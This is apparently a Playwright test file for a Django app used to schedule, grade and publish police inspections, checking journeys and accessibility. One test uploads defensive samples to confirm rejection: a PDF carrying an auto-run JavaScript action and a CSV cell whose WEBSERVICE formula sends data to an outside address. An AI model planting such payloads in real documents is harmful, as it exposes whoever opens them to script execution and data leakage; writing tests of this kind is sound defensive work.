"""Browser journeys for inspections, with axe on every page visited."""

from datetime import date, timedelta

import pytest
from django.utils import timezone
from playwright.sync_api import Page, expect

from core.templatetags.govuk import govuk_date
from inspections.models import Inspection, Judgment, Topic
from inspections.tests.factories import (
    add_concern,
    cite_in_a_finding,
    inspection_at,
    record_evidence,
    schedule,
)
from tests.browser import assert_accessible, keep, sign_in, sign_out, visit

pytestmark = [pytest.mark.browser, pytest.mark.django_db(transaction=True)]
Stage = Inspection.Stage


def fill_date(page: Page, name: str, value: date) -> None:
    page.locator(f"#id_{name}_0").fill(str(value.day))
    page.locator(f"#id_{name}_1").fill(str(value.month))
    page.locator(f"#id_{name}_2").fill(str(value.year))


def test_admin_schedules_a_due_force_and_double_booking_is_refused(
    page: Page, live_server, admin_user, lead_inspector, inspector, force_b
):
    # Fieldwork to come, whatever the day (the team is told of it).
    cleveland = timezone.localdate() + timedelta(days=90)
    dorset = cleveland + timedelta(days=42)
    schedule(force=force_b, lead=lead_inspector, team=[inspector], start=cleveland)
    sign_in(page, live_server.url, admin_user)
    page.get_by_role("link", name="Programme").first.click()
    assert_accessible(page)
    page.get_by_label("Inspection status").select_option("due")
    page.get_by_label("Region").select_option("south_west")
    page.get_by_role("button", name="Apply filters").click()
    row = page.get_by_role("row", name="Dorset")
    expect(row).to_contain_text("Due")
    assert_accessible(page)
    row.get_by_role("link", name="Schedule an inspection of Dorset").click()
    expect(page.get_by_role("heading", level=1)).to_have_text("Schedule an inspection")
    assert_accessible(page)

    page.get_by_label("Inspection", exact=True).check()
    fill_date(page, "fieldwork_start", cleveland + timedelta(days=1))
    fill_date(page, "fieldwork_end", cleveland + timedelta(days=4))
    page.get_by_label("Lead inspector", exact=True).select_option(label="Lena Lead")
    page.get_by_role("button", name="Save inspection").click()
    summary = page.locator(".govuk-error-summary")
    expect(summary).to_contain_text("Lena Lead is already booked on the Cleveland fieldwork")
    assert_accessible(page)
    assert not Inspection.objects.filter(force__slug="dorset").exists()

    # Fieldwork already under way: a warning to check, then back to change it.
    started = timezone.localdate() - timedelta(days=3)
    fill_date(page, "fieldwork_start", started)
    fill_date(page, "fieldwork_end", started + timedelta(days=4))
    page.get_by_role("button", name="Save inspection").click()
    expect(page.get_by_role("heading", level=1)).to_have_text(
        "Check the inspection before you schedule it"
    )
    expect(page.locator(".govuk-warning-text")).to_contain_text("Fieldwork starts before today")
    assert_accessible(page)
    # Back keeps the answers, as Change does (found by the admin journey
    # review: it opened the form empty).
    page.locator(".govuk-back-link").click()
    expect(page.get_by_role("heading", level=1)).to_have_text("Schedule an inspection")
    expect(page.locator("#id_fieldwork_start_0")).to_have_value(str(started.day))
    expect(page.locator("#id_fieldwork_end_0")).to_have_value(
        str((started + timedelta(days=4)).day)
    )
    expect(page.get_by_label("Lead inspector", exact=True)).to_have_value(str(lead_inspector.pk))
    expect(page.get_by_label("Inspection", exact=True)).to_be_checked()
    page.get_by_role("button", name="Save inspection").click()
    expect(page.get_by_role("heading", level=1)).to_have_text(
        "Check the inspection before you schedule it"
    )
    page.get_by_role("button", name="Change the details").click()
    expect(page.get_by_role("heading", level=1)).to_have_text("Schedule an inspection")
    expect(page.locator("#id_fieldwork_start_0")).to_have_value(str(started.day))
    assert not Inspection.objects.filter(force__slug="dorset").exists()

    fill_date(page, "fieldwork_start", dorset)
    fill_date(page, "fieldwork_end", dorset + timedelta(days=4))
    page.get_by_role("button", name="Save inspection").click()
    expect(page.locator(".govuk-notification-banner")).to_contain_text("scheduled")
    expect(page.get_by_role("heading", level=1)).to_have_text("Inspection overview")
    assert_accessible(page)
    assert Inspection.objects.get(force__slug="dorset").fieldwork_start == dorset

    # The lead inspector is told, on their home page and in their notifications
    # (of Cleveland's too, scheduled for them before the test).
    sign_out(page)
    sign_in(page, live_server.url, lead_inspector)
    expect(page.get_by_text("2 unread")).to_be_visible()
    page.get_by_role("link", name="Notifications", exact=True).click()
    visit(page, "Notifications")
    page.get_by_role(
        "link", name=f"Lead inspector: Dorset, fieldwork from {govuk_date(dorset)}"
    ).click()
    visit(page, "Inspection overview")
    expect(page.locator("main")).to_contain_text("Dorset")


def test_inspector_grades_and_lead_moderates(
    page: Page, live_server, admin_user, lead_inspector, inspector, force_a
):
    inspection = inspection_at(
        Stage.FIELDWORK, force=force_a, lead=lead_inspector, team=[inspector], admin=admin_user
    )
    # Start from a clean slate of judgments: only the concern from the factory.
    inspection.judgments.update(status=Judgment.Status.NOT_STARTED, grade="", rationale="")

    sign_in(page, live_server.url, inspector)
    page.get_by_role("link", name="Greater Manchester").click()
    assert_accessible(page)
    page.get_by_role("link", name="Interviews and documents").first.click()
    assert_accessible(page)
    page.get_by_role("button", name="Record an interview").click()
    assert_accessible(page)
    fill_date(page, "held_on", date(2026, 1, 13))
    page.get_by_label("Leadership").check()
    first = page.get_by_role("group", name="Participant 1")
    first.get_by_label("Role").fill("Assistant chief constable")
    first.get_by_label("Organisation").select_option("police")
    # Three rows at first; a fourth on request, the page opening at it.
    page.get_by_role("button", name="Add another participant").click()
    expect(first.get_by_label("Role")).to_have_value("Assistant chief constable")
    assert_accessible(page)
    fourth = page.get_by_role("group", name="Participant 4")
    expect(fourth.get_by_label("Role")).to_be_focused()
    # Saved with a problem (by Enter in a field, which saves, not adds a row):
    # the page opens at the top, its error summary in focus.
    page.get_by_label("Leadership").uncheck()
    fourth.get_by_label("Role").press("Enter")
    expect(page.locator(".govuk-error-summary")).to_be_focused()
    expect(page.locator(".govuk-error-summary")).to_contain_text("Select the topics")
    page.get_by_label("Leadership").check()
    fourth.get_by_label("Role").fill("Designated safeguarding lead")
    fourth.get_by_label("Organisation").select_option("education")
    page.get_by_role("button", name="Save interview").click()
    expect(page.locator(".govuk-notification-banner")).to_contain_text("Interview recorded")
    assert_accessible(page)

    for topic, grade in ((Topic.LEADERSHIP, "Good"), (Topic.PARTNERSHIP_WORKING, "Adequate")):
        page.goto(f"{live_server.url}/inspections/{inspection.pk}/judgments/{topic}/")
        assert_accessible(page)
        page.get_by_role("button", name="Save draft").click()
        expect(page.locator(".govuk-error-summary")).to_contain_text("Select a grade")
        assert_accessible(page)
        page.get_by_label(grade, exact=True).check()
        page.get_by_label("Rationale").fill(f"{grade}: evidence from interviews and data.")
        page.get_by_label("13 January 2026: Assistant chief constable (Police)").check()
        page.get_by_role("button", name="Save draft").click()
        expect(page.locator(".govuk-notification-banner")).to_contain_text("draft saved")
        # Changed, then submitted straight away: the change is saved with it.
        page.get_by_label("Rationale").fill(f"{grade}: evidence from interviews, data and cases.")
        page.get_by_role("button", name="Save and submit for moderation").click()
        expect(page.locator(".govuk-notification-banner")).to_contain_text(
            "submitted for moderation"
        )
        expect(page.get_by_text("Ready for moderation").first).to_be_visible()
        expect(
            page.locator("dd", has_text="evidence from interviews, data and cases")
        ).to_be_visible()
        assert_accessible(page)
    sign_out(page)

    sign_in(page, live_server.url, lead_inspector)
    page.goto(f"{live_server.url}/inspections/{inspection.pk}/judgments/{Topic.LEADERSHIP}/")
    page.get_by_text("Return to the inspector with a comment").click()
    page.get_by_role("button", name="Return to the inspector").click()
    expect(page.locator(".govuk-error-summary")).to_contain_text(
        "Enter a comment for the inspector"
    )
    assert_accessible(page)
    page.get_by_label("Comment for the inspector").fill("Cite the performance data.")
    page.get_by_role("button", name="Return to the inspector").click()
    expect(page.locator(".govuk-notification-banner")).to_contain_text("returned")
    expect(page.get_by_text("Cite the performance data.").first).to_be_visible()
    assert_accessible(page)

    page.goto(
        f"{live_server.url}/inspections/{inspection.pk}/judgments/{Topic.PARTNERSHIP_WORKING}/"
    )
    page.get_by_role("button", name="Agree the judgment").click()
    expect(page.locator(".govuk-notification-banner")).to_contain_text("The judgment is final")
    assert_accessible(page)
    page.goto(f"{live_server.url}/inspections/{inspection.pk}/")
    assert_accessible(page)
    statuses = dict(inspection.judgments.values_list("topic", "status"))
    assert statuses[Topic.LEADERSHIP] == Judgment.Status.RETURNED
    assert statuses[Topic.PARTNERSHIP_WORKING] == Judgment.Status.FINAL


def test_publication_waits_for_recommendations_and_force_lead_sees_grades_in_turn(
    page: Page, live_server, admin_user, lead_inspector, inspector, force_a, force_lead_a
):
    inspection = inspection_at(
        Stage.MODERATION, force=force_a, lead=lead_inspector, team=[inspector], admin=admin_user
    )
    concern = add_concern(inspection, by=inspector, topic=Topic.LEADERSHIP, recommendation=False)
    concern.summary = "Leaders do not oversee child protection"
    concern.save()
    url = f"{live_server.url}/inspections/{inspection.pk}/"

    sign_in(page, live_server.url, force_lead_a)
    page.goto(url)
    expect(page.get_by_text("The grades and findings will be shown here")).to_be_visible()
    expect(page.get_by_text("Requires improvement")).to_have_count(0)
    assert_accessible(page)
    sign_out(page)

    sign_in(page, live_server.url, lead_inspector)
    page.goto(url)
    for judgment in inspection.judgments.all():
        page.goto(f"{url}judgments/{judgment.topic}/")
        page.get_by_role("button", name="Agree the judgment").click()
    page.goto(f"{url}stage/send-for-checks/")
    expect(
        page.get_by_text(f"Add a recommendation to the cause of concern ‘{concern.summary}’")
    ).to_be_visible()
    assert_accessible(page)
    # Blocked: no button that could only fail, and a way back.
    expect(
        page.get_by_role("button", name="Send the report for pre-publication checks")
    ).to_have_count(0)
    expect(page.get_by_role("link", name="Return to the inspection")).to_be_visible()

    page.goto(f"{url}findings/")
    page.get_by_role("link", name=f"Add a recommendation to {concern.summary}").click()
    assert_accessible(page)
    page.get_by_label("Recommendation").fill("Within three months, the force should act.")
    page.get_by_role("button", name="Add recommendation").click()
    page.goto(f"{url}stage/send-for-checks/")
    fill_date(page, "date", date(2026, 3, 2))
    page.get_by_role("button", name="Send the report for pre-publication checks").click()
    expect(page.locator(".govuk-notification-banner")).to_contain_text("pre-publication checks")
    assert_accessible(page)
    sign_out(page)

    sign_in(page, live_server.url, force_lead_a)
    page.goto(url)
    expect(page.get_by_text("Graded judgments (draft)")).to_be_visible()
    expect(page.get_by_text("Within three months, the force should act.")).to_be_visible()
    assert_accessible(page)
    sign_out(page)

    sign_in(page, live_server.url, lead_inspector)
    page.goto(f"{url}stage/publish/")
    assert_accessible(page)
    fill_date(page, "date", date(2026, 4, 1))
    page.get_by_role("button", name="Publish the report").click()
    expect(page.locator(".govuk-notification-banner")).to_contain_text(
        "Report published on 1 April 2026"
    )
    sign_out(page)

    sign_in(page, live_server.url, force_lead_a)
    page.goto(url)
    expect(page.locator("caption", has_text="Graded judgments")).to_have_text("Graded judgments")
    expect(page.get_by_text("(draft)")).to_have_count(0)
    assert_accessible(page)
    page.goto(f"{url}report/")
    assert_accessible(page)


def test_force_lead_of_another_force_gets_404_everywhere(
    page: Page, live_server, admin_user, lead_inspector, inspector, force_a, force_lead_b
):
    inspection = inspection_at(
        Stage.PUBLISHED, force=force_a, lead=lead_inspector, team=[inspector], admin=admin_user
    )
    concern = inspection.findings.first()
    sign_in(page, live_server.url, force_lead_b)
    base = f"{live_server.url}/inspections/{inspection.pk}"
    for path in [
        "/",
        "/report/",
        "/plan/",
        "/stage/publish/",
        f"/judgments/{Topic.LEADERSHIP}/",
        "/findings/",
        f"/findings/{concern.pk}/",
        "/evidence/",
        "/evidence/interviews/new/",
        "/evidence/documents/new/",
    ]:
        response = page.goto(base + path)
        assert response.status == 404, path
    expect(page.get_by_role("heading", level=1)).to_have_text("Page not found")
    assert_accessible(page)


def test_admin_corrects_a_mistyped_receipt_date(
    page: Page, live_server, admin_user, lead_inspector, inspector, force_a
):
    inspection = inspection_at(
        Stage.PRE_PUBLICATION,
        force=force_a,
        lead=lead_inspector,
        team=[inspector],
        admin=admin_user,
    )
    recorded = inspection.received_for_checks_on
    sign_in(page, live_server.url, admin_user)
    page.goto(f"{live_server.url}{inspection.get_absolute_url()}")
    page.get_by_role("link", name="Correct the dates").click()
    expect(page.get_by_role("heading", level=1)).to_have_text("Correct the dates")
    assert_accessible(page)

    page.get_by_role("button", name="Continue").click()  # no reason, no change
    summary = page.locator(".govuk-error-summary")
    expect(summary).to_contain_text("Enter why the dates are being corrected")
    assert_accessible(page)

    corrected = (
        date(recorded.year, recorded.month, 1)
        if recorded.day != 1
        else date(recorded.year, recorded.month, 2)
    )
    fill_date(page, "received_on", corrected)
    page.get_by_label("Why are the dates being corrected?").fill("The day and month were swapped")
    page.get_by_role("button", name="Continue").click()
    expect(page.get_by_role("heading", level=1)).to_have_text("Check the corrected dates")
    expect(page.get_by_role("row", name="Action plan due")).to_be_visible()
    assert_accessible(page)
    # Back keeps the date and the reason, as Change does (it opened the form
    # with the recorded date and no reason).
    page.locator(".govuk-back-link").click()
    expect(page.get_by_role("heading", level=1)).to_have_text("Correct the dates")
    expect(page.locator("#id_received_on_0")).to_have_value(str(corrected.day))
    expect(page.get_by_label("Why are the dates being corrected?")).to_have_value(
        "The day and month were swapped"
    )
    page.get_by_role("button", name="Continue").click()
    expect(page.get_by_role("heading", level=1)).to_have_text("Check the corrected dates")

    page.get_by_role("button", name="Correct the dates").click()
    expect(page.locator(".govuk-notification-banner")).to_contain_text("Dates corrected")
    assert_accessible(page)
    inspection.refresh_from_db()
    assert inspection.received_for_checks_on == corrected


def test_inspector_removes_a_recommendation_only_after_confirming(
    page: Page, live_server, admin_user, lead_inspector, inspector, force_a
):
    """Found by a screenshot sweep: 'Remove' deleted at one click, where
    deleting a finding asks first."""
    from django.urls import reverse

    from inspections.models import Recommendation

    inspection = inspection_at(
        Stage.FIELDWORK, force=force_a, lead=lead_inspector, team=[inspector], admin=admin_user
    )
    add_concern(inspection, by=inspector, topic=Topic.LEADERSHIP, summary="Leaders look away")
    count = Recommendation.objects.filter(finding__inspection=inspection).count
    before = count()
    sign_in(page, live_server.url, inspector)
    page.goto(live_server.url + reverse("inspections:findings", args=[inspection.pk]))
    assert_accessible(page)

    page.get_by_role("link", name="Remove recommendation 1").first.click()
    expect(page.get_by_role("heading", level=1)).to_have_text(
        "Are you sure you want to remove this recommendation?"
    )
    assert_accessible(page)
    page.get_by_role("link", name="Cancel").click()
    assert count() == before

    page.get_by_role("link", name="Remove recommendation 1").first.click()
    page.get_by_role("button", name="Remove recommendation").click()
    expect(page.locator(".govuk-notification-banner")).to_contain_text("Recommendation removed")
    assert_accessible(page)
    assert count() == before - 1


def test_admin_gives_an_inspection_another_lead_after_its_lead_leaves(
    page: Page, live_server, admin_user, lead_inspector, inspector, force_a
):
    from accounts import services as account_services
    from accounts.models import User
    from accounts.tests.factories import UserFactory

    UserFactory(email="sam@example.org", full_name="Sam Second", role=User.Role.LEAD_INSPECTOR)
    inspection = inspection_at(
        Stage.MODERATION, force=force_a, lead=lead_inspector, team=[inspector], admin=admin_user
    )
    account_services.user_deactivate(user=lead_inspector, by=admin_user, reason="Left")
    sign_in(page, live_server.url, admin_user)
    page.goto(f"{live_server.url}{inspection.get_absolute_url()}")
    expect(page.get_by_text("Deactivated", exact=True)).to_be_visible()
    page.get_by_role("link", name="Change the lead inspector").click()
    expect(page.get_by_role("heading", level=1)).to_have_text("Change the lead inspector")
    assert_accessible(page)

    page.get_by_role("button", name="Change lead inspector").click()
    summary = page.locator(".govuk-error-summary")
    expect(summary).to_contain_text("Select the new lead inspector")
    expect(summary).to_contain_text("Enter why the lead inspector is changing")
    assert_accessible(page)

    page.get_by_label("New lead inspector").select_option(label="Sam Second")
    page.get_by_label("Why is the lead inspector changing?").fill("Lena has left the inspectorate")
    page.get_by_role("button", name="Change lead inspector").click()
    expect(page.locator(".govuk-notification-banner")).to_contain_text(
        "Sam Second now leads this inspection"
    )
    assert_accessible(page)
    inspection.refresh_from_db()
    assert inspection.lead_inspector.email == "sam@example.org"


def test_inspector_deletes_a_document_recorded_in_error(
    page: Page, live_server, admin_user, lead_inspector, inspector, force_a, private_storage
):
    from django.urls import reverse

    from core.tests.files import pdf, upload
    from inspections import services
    from inspections.models import Document

    inspection = inspection_at(
        Stage.FIELDWORK, force=force_a, lead=lead_inspector, team=[inspector], admin=admin_user
    )
    services.document_record(
        inspection=inspection,
        title="Case notes naming a child",
        kind="policy",
        received_on=inspection.fieldwork_start,
        notes="",
        upload=upload("wrong.pdf", pdf()),
        by=inspector,
    )
    sign_in(page, live_server.url, inspector)
    page.goto(live_server.url + reverse("inspections:evidence", args=[inspection.pk]))
    assert_accessible(page)
    page.get_by_role("link", name="Delete Case notes naming a child").click()
    expect(page.get_by_role("heading", level=1)).to_have_text(
        "Are you sure you want to delete this document?"
    )
    assert_accessible(page)
    page.get_by_role("button", name="Delete document").click()
    expect(page.locator(".govuk-notification-banner")).to_contain_text(
        "Document ‘Case notes naming a child’ deleted"
    )
    expect(page.get_by_text("No documents recorded yet.")).to_be_visible()
    assert_accessible(page)
    assert not Document.objects.filter(inspection=inspection).exists()


def test_inspector_corrects_an_interview_and_a_document(
    page: Page,
    live_server,
    admin_user,
    lead_inspector,
    inspector,
    force_a,
    private_storage,
    tmp_path,
):
    from django.urls import reverse

    from core.tests.files import pdf
    from inspections.models import Document, Interview

    inspection = inspection_at(
        Stage.FIELDWORK, force=force_a, lead=lead_inspector, team=[inspector], admin=admin_user
    )
    interview, _ = record_evidence(inspection, by=inspector)
    sign_in(page, live_server.url, inspector)
    evidence = live_server.url + reverse("inspections:evidence", args=[inspection.pk])
    page.goto(evidence)
    visit(page, "Interviews and documents")

    # The interview: a typo in the notes, the wrong day, a participant too many.
    page.get_by_role("link", name="Change the interview on 13 January 2026").click()
    visit(page, "Change the interview")
    expect(page.get_by_label("Notes")).to_have_value("Spoke about supervison of the MASH")
    second = page.get_by_role("group", name="Participant 2")
    expect(second.get_by_label("Role")).to_have_value("Team manager")
    first = page.get_by_role("group", name="Participant 1")
    first.get_by_label("Role").fill("")
    second.get_by_label("Role").fill("")
    page.get_by_role("button", name="Save changes").click()
    summary = page.locator(".govuk-error-summary")
    expect(summary).to_be_focused()
    expect(summary).to_contain_text("Enter participant 1's role")
    visit(page, "Change the interview")
    first.get_by_label("Role").fill("Detective superintendent")
    second.get_by_label("Organisation").select_option("")
    page.locator("#id_held_on_0").fill("14")
    page.get_by_label("Notes").fill("Spoke about supervision of the MASH")
    page.get_by_role("button", name="Save changes").click()
    expect(page.locator(".govuk-notification-banner")).to_contain_text("Interview changed")
    visit(page, "Interview on 14 January 2026")
    expect(page.get_by_text("Detective superintendent (Police)")).to_be_visible()
    interview = Interview.objects.get(pk=interview.pk)
    assert interview.notes == "Spoke about supervision of the MASH"
    assert interview.participants.count() == 1

    # The document: its file named a child, so it is replaced with a redacted copy.
    page.goto(evidence)
    page.get_by_role("link", name="Change Strategy meeting minutes").click()
    visit(page, "Change a document")
    expect(page.get_by_text("The current file is minutes naming a child.pdf.")).to_be_visible()
    page.get_by_label("Replace it with a new file").check()
    page.get_by_role("button", name="Save changes").click()
    expect(page.locator(".govuk-error-summary")).to_contain_text("Select the new file")
    visit(page, "Change a document")
    # A PDF that would run JavaScript on the computer of whoever opens it.
    scripted = tmp_path / "minutes with a script.pdf"
    scripted.write_bytes(
        pdf("Redacted", catalog=b"/OpenAction << /S /JavaScript /JS (app.alert(1)) >>")
    )
    page.get_by_label("New file", exact=True).set_input_files(str(scripted))
    page.get_by_role("button", name="Save changes").click()
    summary = page.locator(".govuk-error-summary")
    expect(summary).to_be_focused()
    expect(summary).to_contain_text("The selected PDF contains JavaScript")
    expect(page.locator(".govuk-error-message")).to_contain_text(
        "The selected PDF contains JavaScript"
    )
    visit(page, "Change a document")
    # Figures with a cell that would fetch a web address when opened in a spreadsheet.
    figures = tmp_path / "figures.csv"
    figures.write_bytes(b'area,count\nNorth,"=WEBSERVICE(""https://example.com/?""&A2)"\n')
    page.get_by_label("New file", exact=True).set_input_files(str(figures))
    page.get_by_role("button", name="Save changes").click()
    expect(summary).to_be_focused()
    expect(summary).to_contain_text("line 2 has one. Remove it, or start the cell with")
    visit(page, "Change a document")
    redacted = tmp_path / "minutes redacted.pdf"
    redacted.write_bytes(pdf("Redacted"))
    page.get_by_label("New file", exact=True).set_input_files(str(redacted))
    page.get_by_role("button", name="Save changes").click()
    expect(page.locator(".govuk-notification-banner")).to_contain_text(
        "Document ‘Strategy meeting minutes’ changed"
    )
    visit(page, "Interviews and documents")
    expect(page.get_by_role("link", name="Download Strategy meeting minutes,")).to_contain_text(
        "minutes redacted.pdf"
    )
    assert Document.objects.get(inspection=inspection).stored_file.original_name == (
        "minutes redacted.pdf"
    )

    # Once what cites it can no longer change, the page says so instead of a form.
    cite_in_a_finding(inspection, by=inspector, interviews=[interview])
    Inspection.objects.filter(pk=inspection.pk).update(stage=Stage.PUBLISHED)
    page.goto(
        live_server.url + reverse("inspections:interview_edit", args=[inspection.pk, interview.pk])
    )
    visit(page, "You cannot change this interview")
    expect(page.get_by_role("link", name="The finding ‘Supervision is patchy’")).to_be_visible()


def test_force_raises_factual_accuracy_points_and_the_lead_inspector_responds(
    page: Page, live_server, admin_user, lead_inspector, inspector, force_a, force_lead_a
):
    from inspections.tests.report_factories import AFI, report_inspection

    inspection = report_inspection(
        force=force_a,
        lead=lead_inspector,
        inspector=inspector,
        admin=admin_user,
        stage=Stage.PRE_PUBLICATION,
    )
    url = f"{live_server.url}/inspections/{inspection.pk}/"
    sign_in(page, live_server.url, force_lead_a)
    # What is due leads to the checks (found by a newcomer's review: nothing did).
    page.goto(f"{live_server.url}/")
    checks = page.locator(".govuk-summary-card").filter(
        has=page.get_by_role("heading", name="Factual accuracy checks")
    )
    expect(checks).to_contain_text("Open until publication")
    assert_accessible(page)
    checks.get_by_role("link", name="Check the report").click()
    expect(page.get_by_role("heading", level=1)).to_have_text("Factual accuracy checks")
    assert_accessible(page)
    page.get_by_role("link", name="Raise a point").click()
    assert_accessible(page)
    page.get_by_label(f"Area for improvement: {AFI}").check()
    page.get_by_label("What is factually inaccurate?").fill("It says only some incidents.")
    page.get_by_role("button", name="Save as a draft").click()
    summary = page.locator(".govuk-error-summary")
    expect(summary).to_contain_text("Enter the correction you suggest")
    assert_accessible(page)
    keep(page, "factual-1-error")
    page.get_by_label("What should the report say instead?").fill("Most incidents, 41 of 48.")
    page.get_by_role("button", name="Save as a draft").click()
    expect(page.locator(".govuk-notification-banner")).to_contain_text("saved as a draft")
    page.get_by_role("link", name="Raise a point").click()
    page.get_by_label("Leadership graded judgment").check()
    page.get_by_label("What is factually inaccurate?").fill("The board meets monthly, not yearly.")
    page.get_by_label("What should the report say instead?").fill("It meets every month.")
    page.get_by_label("Evidence for the correction (optional)").fill("Board minutes, 2025.")
    page.get_by_role("button", name="Save as a draft").click()
    assert_accessible(page)
    keep(page, "factual-2-drafts")
    page.goto(f"{live_server.url}/")
    expect(checks).to_contain_text("2 points not sent")
    page.goto(f"{url}report/")
    page.get_by_role("link", name="Factual accuracy checks").click()
    page.get_by_role("link", name="Send 2 points to the inspectorate").click()
    expect(page.get_by_role("heading", level=1)).to_have_text("Check your points before sending")
    assert_accessible(page)
    keep(page, "factual-3-check")
    page.get_by_role("button", name="Send 2 points to the inspectorate").click()
    expect(page.locator(".govuk-notification-banner")).to_contain_text("sent to the inspectorate")
    assert_accessible(page)
    sign_out(page)

    sign_in(page, live_server.url, lead_inspector)
    page.goto(f"{url}stage/publish/")
    expect(page.get_by_text("(2 waiting)")).to_be_visible()
    page.goto(url)
    page.get_by_role("link", name="Factual accuracy checks").click()
    expect(page.get_by_text("2 points waiting for a response")).to_be_visible()
    assert_accessible(page)
    keep(page, "factual-4-lead")
    page.get_by_role("link", name="Correct the wording of this finding").click()
    assert_accessible(page)
    keep(page, "factual-5-correct")
    page.get_by_label("Detail").fill("The views of children were recorded in 41 of 48 incidents.")
    page.get_by_role("button", name="Save correction").click()
    expect(page.locator(".govuk-notification-banner")).to_contain_text("corrected in the report")
    page.get_by_role("link", name=f"Respond to the point on Area for improvement: {AFI}").click()
    page.get_by_label("Accepted", exact=True).check()
    page.get_by_role("button", name="Save response").click()
    assert_accessible(page)
    page.get_by_role("link", name="Respond to the point on Leadership graded judgment").click()
    page.get_by_label("Not accepted").check()
    page.get_by_label("Explanation for the force").fill("The minutes show a yearly meeting.")
    assert_accessible(page)
    keep(page, "factual-6-respond")
    page.get_by_role("button", name="Save response").click()
    expect(page.get_by_text("waiting for a response")).to_have_count(0)
    assert_accessible(page)
    page.goto(f"{url}stage/publish/")
    fill_date(page, "date", date(2026, 5, 1))
    page.get_by_role("button", name="Publish the report").click()
    expect(page.locator(".govuk-notification-banner")).to_contain_text("Report published")
    sign_out(page)

    sign_in(page, live_server.url, force_lead_a)
    page.goto(f"{url}report/factual-accuracy/")
    # Each point's response, as the force reads it (not its status tag).
    responses = page.locator(".govuk-summary-list__row").filter(
        has=page.get_by_text("Response", exact=True)
    )
    answers = [text.strip().splitlines()[0] for text in responses.locator("dd").all_inner_texts()]
    assert sorted(answers) == ["Accepted", "Not accepted"]
    expect(page.get_by_text("The minutes show a yearly meeting.")).to_be_visible()
    expect(page.get_by_role("link", name="Raise a point")).to_have_count(0)
    assert_accessible(page)
    keep(page, "factual-7-force-responses")
    page.goto(f"{url}report/")
    expect(page.get_by_text("recorded in 41 of 48 incidents")).to_be_visible()
